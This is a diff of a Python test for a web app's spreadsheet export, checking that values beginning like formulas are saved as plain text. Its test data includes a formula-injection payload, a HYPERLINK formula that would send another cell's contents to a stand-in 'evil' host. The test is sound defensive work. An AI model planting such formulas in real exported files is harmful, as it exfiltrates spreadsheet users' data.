@@ -24,7 +24,8 @@ def test_names_and_emails_keep_only_their_first_character():
 def test_text_starting_like_a_formula_is_exported_as_text(app):
     rows = [{"title": '=HYPERLINK("http://evil/?"&L2,"x")'}, {"title": "-1+2"}, {"title": "普通标题"}]
     with app.test_request_context():
-        response = table_response(filename="t", columns=[("标题", lambda r: r["title"])], rows=rows, fmt="xlsx")
+        columns = [("标题", lambda r: r["title"])]
+        response = table_response(filename="t", columns=columns, rows=rows, fmt="xlsx", document=None)
     sheet = load_workbook(io.BytesIO(response.data)).active
     cells = [sheet.cell(row=i, column=1) for i in range(2, 5)]
     assert [cell.data_type for cell in cells] == ["s", "s", "s"]
